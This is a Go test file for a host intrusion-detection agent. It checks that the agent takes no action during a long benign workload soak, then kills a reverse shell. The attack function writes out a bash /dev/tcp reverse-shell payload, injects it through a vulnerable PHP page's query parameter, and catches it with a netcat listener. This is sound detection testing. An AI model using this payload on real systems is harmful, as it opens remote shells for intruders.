@@ -1,0 +1,614 @@
+package soak
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"maps"
+	"net"
+	"net/url"
+	"os"
+	"os/exec"
+	"slices"
+	"sort"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"testing"
+	"time"
+)
+
+// Timing. The agent learns for `learning` (--learning-period: the schema
+// allows only 0s or 24h..72h in a policy), then the workloads run at
+// least minSoak — long enough for cron's minute — and until each made
+// its minimum progress after learning.
+const (
+	learning     = 8 * time.Second
+	minSoak      = 50 * time.Second
+	maxSoak      = 100 * time.Second
+	tailWindow   = 5 * time.Second   // after the workloads: late signals still counted
+	killDeadline = 30 * time.Second  // the attack's shell must be dead by then
+	budget       = 175 * time.Second // the whole test, build and cleanup aside
+)
+
+// minimum progress after the learning period, per workload
+var minProgress = map[string]int{
+	"docker": 8, // two rounds: run --rm, run -d + exec, stop, rm
+	"build":  8, // two rounds: go build, run the binary, go test, go run
+	"dpkg":   4,
+	"rotate": 2,
+	"cron":   1,
+}
+
+// TestBenignSoakThenAttack is the issue's "benign soak test in enforce
+// mode": zero actions while a busy, ordinary host does its work, then a
+// reverse shell below php-fpm still gets its process tree killed.
+//
+// Why namespaces and not a booted systemd-nspawn container: the
+// repository's daemons (dockertest, sshdtest, the scenarios' nginx and
+// php-fpm) already run this way on this machine, init.sh as PID 1 makes
+// the namespace's lifetime one process's, and killing unshare
+// (--kill-child) ends everything in it at once; a container would need a
+// bootable root filesystem image, which cannot be fetched here.
+func TestBenignSoakThenAttack(t *testing.T) {
+	testStart := time.Now()
+	h := newHost(t)
+	begin := time.Now()
+	t.Logf("setup (picket built, private root, signed config, namespaces) took %s", begin.Sub(testStart).Round(time.Second))
+	h.start(learning)
+	st := h.waitAgent()
+	var sensors []string
+	for _, s := range st.Sensors {
+		sensors = append(sensors, s.Name+"="+s.State)
+	}
+	t.Logf("agent running, config %s %.12s, mode %s, learning until %s; sensors: %s",
+		st.Config.Source, st.Config.Revision, st.Mode, st.Learning.Ends.Format("15:04:05"), strings.Join(sensors, " "))
+
+	j := &journal{h: h}
+	h.touch("ctl/start")
+	web := h.startVisitors()
+	defer web.stop()
+	logins := []string{h.adminLogin()}
+
+	h.waitFor("the learning period to end", learning+30*time.Second, func() bool {
+		st, ok := h.status()
+		return ok && st.State == "running" && !st.Learning.Active && !st.Learning.Ends.IsZero()
+	})
+	learnEnd := time.Now()
+	t.Logf("learning over at %s (%.1fs after start); soak begins", learnEnd.Format("15:04:05"), learnEnd.Sub(begin).Seconds())
+	j.check()
+	stBefore, _ := h.status()
+
+	// --- the soak ---------------------------------------------------------
+	webBefore := web.ok.Load()
+	for {
+		j.check()
+		el := time.Since(learnEnd)
+		if (len(logins) == 1 && el > 5*time.Second) || (len(logins) == 2 && el > 30*time.Second) {
+			logins = append(logins, h.adminLogin())
+		}
+		missing := h.missingProgress(learnEnd)
+		if web.ok.Load()-webBefore < 50 {
+			missing = append(missing, fmt.Sprintf("web: %d requests", web.ok.Load()-webBefore))
+		}
+		if len(logins) < 3 {
+			missing = append(missing, "admin logins")
+		}
+		if el >= minSoak && len(missing) == 0 {
+			break
+		}
+		if el > maxSoak {
+			t.Errorf("after %s of soak the workloads did not make their minimum progress: %s", maxSoak, strings.Join(missing, "; "))
+			break
+		}
+		time.Sleep(500 * time.Millisecond)
+	}
+	h.touch("ctl/stop")
+	web.stop()
+	h.waitFor("the workload loops to end", 60*time.Second, func() bool {
+		for _, w := range []string{"docker", "build", "dpkg", "rotate"} {
+			if !h.progress(w, learnEnd).Done {
+				return false
+			}
+		}
+		return true
+	})
+	for end := time.Now().Add(tailWindow); time.Now().Before(end); time.Sleep(500 * time.Millisecond) {
+		j.check()
+	}
+	soakEnd := time.Now()
+
+	// --- zero actions -----------------------------------------------------
+	j.check()
+	t.Logf("soak: %.0fs after learning; %s; web %d ok / %d failed; admin logins: %s",
+		soakEnd.Sub(learnEnd).Seconds(), h.progressSummary(learnEnd), web.ok.Load(), web.failed.Load(), strings.Join(logins, "; "))
+	for _, l := range logins {
+		if !strings.HasPrefix(l, "ok") {
+			t.Errorf("admin ssh login failed: %s", l)
+		}
+	}
+	if n := web.failed.Load(); n > 0 {
+		t.Errorf("%d web requests failed (last: %s)", n, web.lastErr())
+	}
+	if stAfter, ok := h.status(); ok {
+		t.Logf("agent during the soak: %d events, %d signals", stAfter.Counters.Events-stBefore.Counters.Events,
+			stAfter.Counters.Signals-stBefore.Counters.Signals)
+	}
+	h.checkWorkloads(learnEnd)
+	j.report(t, "benign soak", soakEnd)
+	h.checkFirewall("after the benign soak")
+	h.logSignals(t)
+
+	// --- the attack ---------------------------------------------------------
+	attackStart := time.Now()
+	h.attack(j, attackStart)
+	j.check()
+	j.report(t, "benign soak (re-checked after the attack)", attackStart)
+	if d := time.Since(testStart); d > budget {
+		t.Errorf("the soak test took %s, more than its budget of %s", d.Round(time.Second), budget)
+	}
+	t.Logf("total %s, %s from namespace start", time.Since(testStart).Round(time.Second), time.Since(begin).Round(time.Second))
+}
+
+func (h *host) touch(rel string) {
+	h.t.Helper()
+	if err := os.WriteFile(h.path(rel), nil, 0o644); err != nil {
+		h.t.Fatal(err)
+	}
+}
+
+// waitAgent waits until the agent runs, on the signed config, in
+// enforce mode and learning; the process sensor must not be off.
+func (h *host) waitAgent() agentStatus {
+	var st agentStatus
+	h.waitFor("the agent to run on the signed config", 60*time.Second, func() bool {
+		var ok bool
+		st, ok = h.status()
+		return ok && st.State == "running" && time.Since(st.Heartbeat) < 30*time.Second
+	})
+	if st.Config.Source != "repository" || st.Mode != "enforce" {
+		h.t.Fatalf("agent runs %s config in mode %s, want the repository's in enforce", st.Config.Source, st.Mode)
+	}
+	if !st.Learning.Active {
+		h.t.Logf("the agent's learning period was already over when it first reported (ends %s): slow start", st.Learning.Ends)
+	}
+	for _, s := range st.Sensors {
+		if (s.Name == "process" || s.Name == "auth" || s.Name == "web") && s.State == "off" {
+			h.t.Fatalf("sensor %s is off (%s): the soak would prove nothing", s.Name, s.Detail)
+		}
+		if s.State != "ok" {
+			h.t.Logf("sensor %s %s: %s", s.Name, s.State, s.Detail)
+		}
+	}
+	return st
+}
+
+// --- workloads -------------------------------------------------------------
+
+func (h *host) progress(loop string, since time.Time) progress {
+	b, _ := os.ReadFile(h.path("progress/" + loop + ".log"))
+	return parseProgress(string(b), since, time.Now(), 2*time.Minute)
+}
+
+func (h *host) missingProgress(since time.Time) []string {
+	var missing []string
+	for _, w := range sortedKeys(minProgress) {
+		if p := h.progress(w, since); p.OK < minProgress[w] {
+			missing = append(missing, fmt.Sprintf("%s: %d/%d", w, p.OK, minProgress[w]))
+		}
+	}
+	return missing
+}
+
+func (h *host) progressSummary(since time.Time) string {
+	var parts []string
+	for _, w := range sortedKeys(minProgress) {
+		p := h.progress(w, since)
+		parts = append(parts, fmt.Sprintf("%s %d ok/%d failed", w, p.OK, len(p.Failures)))
+	}
+	return strings.Join(parts, ", ")
+}
+
+func sortedKeys[V any](m map[string]V) []string {
+	keys := make([]string, 0, len(m))
+	for k := range m {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	return keys
+}
+
+// checkWorkloads: no step failed (a killed step exits with a signal), no
+// cron job left unfinished, and every daemon and the agent still alive.
+func (h *host) checkWorkloads(since time.Time) {
+	t := h.t
+	for _, w := range sortedKeys(minProgress) {
+		if p := h.progress(w, time.Time{}); len(p.Failures) > 0 {
+			t.Errorf("workload %s failed (see %s/logs/%s.out): %s", w, h.dir, w, strings.Join(p.Failures, "; "))
+		}
+	}
+	for _, d := range []string{"dockerd", "sshd", "syslog", "php-fpm", "nginx", "cron", "agent"} {
+		if h.nsPIDFile(d) == 0 {
+			t.Errorf("%s is no longer running", d)
+		}
+	}
+	if cont := h.procsNamed("containerd"); len(cont) == 0 {
+		t.Errorf("containerd is no longer running")
+	}
+}
+
+func (h *host) procsNamed(comm string) []proc {
+	var out []proc
+	for _, p := range h.procs() {
+		if p.Comm == comm {
+			out = append(out, p)
+		}
+	}
+	return out
+}
+
+// adminLogin logs in over ssh from the admin network and runs what an
+// admin looks at; it returns "ok" or what failed.
+func (h *host) adminLogin() string {
+	cmd := exec.Command("ip", "netns", "exec", h.admin.Name, "ssh", "-F", "/dev/null", "-i", h.adminKey,
+		"-o", "UserKnownHostsFile=/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes",
+		"-o", "ConnectTimeout=10", "-o", "LogLevel=ERROR", "root@"+srvAdmin,
+		"id; uptime; ps -e | wc -l; df -h / | tail -n 1; tail -n 2 /var/log/auth.log; ls /etc/cron.d")
+	cmd.Env = append(os.Environ(), "HOME="+h.path("adminhome"))
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	if err := cmd.Start(); err != nil {
+		return "start: " + err.Error()
+	}
+	done := make(chan error, 1)
+	go func() { done <- cmd.Wait() }()
+	select {
+	case err := <-done:
+		if err != nil || !strings.Contains(out.String(), "uid=0(root)") {
+			return fmt.Sprintf("%v: %s", err, clip(out.String(), 300))
+		}
+		return "ok " + time.Now().Format("15:04:05")
+	case <-time.After(30 * time.Second):
+		_ = cmd.Process.Kill()
+		<-done
+		return "timed out: " + clip(out.String(), 300)
+	}
+}
+
+// visitors is web traffic from the visitors' network: the static page,
+// the PHP page and a missing file, a few times a second.
+type visitors struct {
+	ok, failed atomic.Int64
+	mu         sync.Mutex
+	last       string
+	quit       chan struct{}
+	done       chan struct{}
+	once       sync.Once
+}
+
+func (v *visitors) stop() {
+	v.once.Do(func() { close(v.quit); <-v.done })
+}
+
+func (v *visitors) lastErr() string {
+	v.mu.Lock()
+	defer v.mu.Unlock()
+	return v.last
+}
+
+func (h *host) startVisitors() *visitors {
+	v := &visitors{quit: make(chan struct{}), done: make(chan struct{})}
+	go func() {
+		defer close(v.done)
+		// One thread in the visitors' namespace for the whole loop: its
+		// sockets are made there.
+		_ = h.users.Do(func() error {
+			paths := []string{"/", "/app.php", "/app.php?page=2", "/favicon.ico"}
+			for i := 0; ; i++ {
+				select {
+				case <-v.quit:
+					return nil
+				case <-time.After(250 * time.Millisecond):
+				}
+				p := paths[i%len(paths)]
+				code, err := httpGet(srvUsers+":80", p, 5*time.Second)
+				want := 200
+				if p == "/favicon.ico" {
+					want = 404
+				}
+				if err != nil || code != want {
+					v.failed.Add(1)
+					v.mu.Lock()
+					v.last = fmt.Sprintf("GET %s: %d %v", p, code, err)
+					v.mu.Unlock()
+					continue
+				}
+				v.ok.Add(1)
+			}
+		})
+	}()
+	return v
+}
+
+// httpGet sends one HTTP/1.1 request on a fresh connection (dialled by
+// the calling thread, so in its network namespace) and returns the status.
+func httpGet(addr, path string, timeout time.Duration) (int, error) {
+	c, err := net.DialTimeout("tcp", addr, timeout)
+	if err != nil {
+		return 0, err
+	}
+	defer c.Close()
+	_ = c.SetDeadline(time.Now().Add(timeout))
+	fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: soak.example\r\nUser-Agent: Mozilla/5.0 (soak visitor)\r\nConnection: close\r\n\r\n", path)
+	line, err := bufio.NewReader(c).ReadString('\n')
+	if err != nil {
+		return 0, err
+	}
+	var proto string
+	var code int
+	if _, err := fmt.Sscan(line, &proto, &code); err != nil {
+		return 0, fmt.Errorf("bad status line %q", line)
+	}
+	return code, nil
+}
+
+// --- the journal and the firewall -------------------------------------------
+
+// journal follows `picket actions --all --json` and remembers every
+// action seen, so that one that came and went between polls still counts.
+type journal struct {
+	h       *host
+	seen    map[int64]action
+	lastErr error
+}
+
+func (j *journal) check() {
+	out, err := j.h.picket("actions", "--all", "--json", "--limit", "0")
+	if err != nil {
+		j.lastErr = fmt.Errorf("picket actions: %v: %s", err, out)
+		return
+	}
+	list, err := parseLines[action](out)
+	if err != nil {
+		j.lastErr = err
+		return
+	}
+	if j.seen == nil {
+		j.seen = map[int64]action{}
+	}
+	for _, a := range list {
+		j.seen[a.ID] = a
+	}
+	j.lastErr = nil
+}
+
+func (j *journal) incidents() map[int64]incident {
+	out, _ := j.h.picket("incidents", "--all", "--json", "--limit", "0")
+	list, err := parseLines[incident](out)
+	if err != nil {
+		j.h.t.Logf("picket incidents: %v", err)
+	}
+	m := map[int64]incident{}
+	for _, i := range list {
+		m[i.ID] = i
+	}
+	return m
+}
+
+// report fails the test for every action taken before `before` (the
+// benign part), listing which rules raised it; plans held back are
+// logged, since they show what the agent would do after a longer
+// learning period or with another policy.
+func (j *journal) report(t *testing.T, phase string, before time.Time) {
+	t.Helper()
+	if j.lastErr != nil {
+		t.Errorf("%s: reading the journal: %v", phase, j.lastErr)
+	}
+	incs := j.incidents()
+	var bad, held []string
+	shown := map[int64]bool{}
+	for _, id := range sortedIDs(j.seen) {
+		a := j.seen[id]
+		if !a.Created.Before(before) {
+			continue
+		}
+		if acting(a) {
+			bad = append(bad, describeOnce(a, incs, shown))
+		} else {
+			held = append(held, describeOnce(a, incs, shown))
+		}
+	}
+	if len(held) > 0 {
+		t.Logf("%s: %d plans held back (not acted on):\n  %s", phase, len(held), strings.Join(held, "\n  "))
+	}
+	if len(bad) > 0 {
+		t.Errorf("%s: %d actions taken against a benign host, want 0:\n  %s", phase, len(bad), strings.Join(bad, "\n  "))
+	}
+}
+
+func sortedIDs(m map[int64]action) []int64 {
+	ids := make([]int64, 0, len(m))
+	for id := range m {
+		ids = append(ids, id)
+	}
+	sort.Slice(ids, func(a, b int) bool { return ids[a] < ids[b] })
+	return ids
+}
+
+// actingSets are the sets of table inet picket whose elements act (block,
+// rate-limit, pause, contain); admin4/6 hold the whitelist and meters are
+// the kernel's.
+var actingSets = map[string]bool{"block4": true, "block6": true, "out4": true, "out6": true, "ratelimit4": true,
+	"ratelimit6": true, "sshpause": true, "contain_active": true}
+
+// checkFirewall: nothing in the acting sets of the agent's table.
+func (h *host) checkFirewall(phase string) {
+	out, err := exec.Command("ip", "netns", "exec", h.srv.Name, "nft", "-j", "list", "table", "inet", "picket").CombinedOutput()
+	if err != nil {
+		if bytes.Contains(out, []byte("No such file")) {
+			return // no table: nothing blocked
+		}
+		h.t.Errorf("%s: nft list table inet picket: %v: %s", phase, err, out)
+		return
+	}
+	var doc struct {
+		Nftables []map[string]json.RawMessage `json:"nftables"`
+	}
+	if err := json.Unmarshal(out, &doc); err != nil {
+		h.t.Errorf("%s: nft -j: %v", phase, err)
+		return
+	}
+	for _, obj := range doc.Nftables {
+		raw, ok := obj["set"]
+		if !ok {
+			continue
+		}
+		var set struct {
+			Name string            `json:"name"`
+			Elem []json.RawMessage `json:"elem"`
+		}
+		if json.Unmarshal(raw, &set) == nil && actingSets[set.Name] && len(set.Elem) > 0 {
+			h.t.Errorf("%s: nftables set %s holds %d elements: %s", phase, set.Name, len(set.Elem), clip(string(raw), 600))
+		}
+	}
+}
+
+// logSignals logs which rules fired during the soak (observe-level
+// signals are allowed; they show what the detectors made of the host).
+func (h *host) logSignals(t *testing.T) {
+	j := &journal{h: h}
+	incs := j.incidents()
+	counts := map[string]int{}
+	levels := map[string]int{}
+	for _, inc := range incs {
+		levels[inc.Level]++
+		for _, s := range inc.Signals {
+			counts[s.Rule]++
+		}
+	}
+	var parts []string
+	for _, r := range sortedKeys(counts) {
+		parts = append(parts, fmt.Sprintf("%s×%d", r, counts[r]))
+	}
+	var lv []string
+	for _, l := range sortedKeys(levels) {
+		lv = append(lv, fmt.Sprintf("%s×%d", l, levels[l]))
+	}
+	t.Logf("soak incidents: %d (%s); signals: %s", len(incs), strings.Join(lv, " "), strings.Join(parts, " "))
+}
+
+// --- the attack -------------------------------------------------------------
+
+// attack: a netcat listener in the attacker's namespace, a request to the
+// vulnerable PHP page that starts `bash -i` with its stdio on a TCP
+// connection back to it, a command through the shell; then the agent must
+// kill the shell's process tree (journal: kill-tree done; the shell gone).
+func (h *host) attack(j *journal, start time.Time) {
+	t := h.t
+	nc := exec.Command("ip", "netns", "exec", h.at.Name, "nc", "-l", attackAddr, attackPort)
+	stdin, err := nc.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var mu sync.Mutex
+	var got bytes.Buffer
+	nc.Stdout = writerFunc(func(p []byte) (int, error) { mu.Lock(); defer mu.Unlock(); return got.Write(p) })
+	nc.Stderr = nc.Stdout
+	if err := nc.Start(); err != nil {
+		t.Fatal(err)
+	}
+	ncDone := make(chan struct{})
+	go func() { _ = nc.Wait(); close(ncDone) }()
+	defer func() {
+		stdin.Close()
+		_ = nc.Process.Kill()
+		<-ncDone
+	}()
+	received := func() string { mu.Lock(); defer mu.Unlock(); return got.String() }
+	h.waitFor("the attacker's listener", 10*time.Second, func() bool {
+		out, _ := exec.Command("ip", "netns", "exec", h.at.Name, "ss", "-Hltn", "sport = :"+attackPort).Output()
+		return bytes.Contains(out, []byte(attackAddr+":"+attackPort))
+	})
+	payload := fmt.Sprintf("bash -c 'bash -i >& /dev/tcp/%s/%s 0>&1'", attackAddr, attackPort)
+	go func() {
+		// The request hangs while the shell lives (system() waits).
+		_ = h.at.Do(func() error {
+			_, err := httpGet(srvAttack+":80", "/vuln.php?c="+url.QueryEscape(payload), killDeadline+30*time.Second)
+			return err
+		})
+	}()
+	// The agent may kill the shell within a scan or two, before the test
+	// even looks: every `bash -i` of the namespace seen at any poll is
+	// remembered, and the listener's prompt proves the shell ran.
+	shells := map[int]proc{}
+	sawShells := func() {
+		for _, p := range h.procs() {
+			if p.Cmdline == "bash -i" && !strings.HasPrefix(p.State, "Z") {
+				shells[p.PID] = p
+			}
+		}
+	}
+	h.waitFor("the reverse shell to connect", 20*time.Second, func() bool { sawShells(); return received() != "" })
+	sawShells()
+	if _, err := io.WriteString(stdin, "id\n"); err != nil {
+		t.Logf("writing to the shell: %v (it may be dead already)", err)
+	}
+	t.Logf("reverse shell connected (bash -i seen: %v); the listener got: %q", slices.Collect(maps.Values(shells)), clip(received(), 200))
+	var kill *action
+	deadline := time.Now().Add(killDeadline)
+	for time.Now().Before(deadline) {
+		sawShells()
+		j.check()
+		kill = nil
+		for _, id := range sortedIDs(j.seen) {
+			if a := j.seen[id]; a.Kind == "kill-tree" && !a.Created.Before(start) && a.Status == "done" {
+				kill = &a
+				break
+			}
+		}
+		if kill != nil && !anyAlive(shells) {
+			break
+		}
+		time.Sleep(200 * time.Millisecond)
+	}
+	if !strings.Contains(received(), "uid=33(www-data)") {
+		t.Logf("the listener did not get the output of id (the shell may have died first): %q", clip(received(), 300))
+	}
+	incs := j.incidents()
+	var acts []string
+	shown := map[int64]bool{}
+	for _, id := range sortedIDs(j.seen) {
+		if a := j.seen[id]; !a.Created.Before(start) {
+			acts = append(acts, describeOnce(a, incs, shown))
+		}
+	}
+	t.Logf("attack: journal since %s:\n  %s", start.Format("15:04:05"), strings.Join(acts, "\n  "))
+	switch {
+	case kill == nil:
+		t.Errorf("attack: no kill-tree done within %s of the reverse shell", killDeadline)
+	case len(shells) == 0:
+		t.Errorf("attack: kill-tree %d is done, but the test never saw the shell's bash -i to check it died", kill.ID)
+	case anyAlive(shells):
+		t.Errorf("attack: kill-tree %d is done but the shell still runs: %v", kill.ID, shells)
+	default:
+		t.Logf("attack: kill-tree %d (%s) done %.1fs after the attack began; the shell is gone",
+			kill.ID, kill.Target, kill.Applied.Sub(start).Seconds())
+	}
+}
+
+// anyAlive reports whether one of ps still runs (same pid, same start).
+func anyAlive(ps map[int]proc) bool {
+	for _, p := range ps {
+		if now, ok := readProc(p.PID); ok && now.Start == p.Start && !strings.HasPrefix(now.State, "Z") && syscall.Kill(p.PID, 0) == nil {
+			return true
+		}
+	}
+	return false
+}
+
+type writerFunc func([]byte) (int, error)
+
+func (f writerFunc) Write(p []byte) (int, error) { return f(p) }
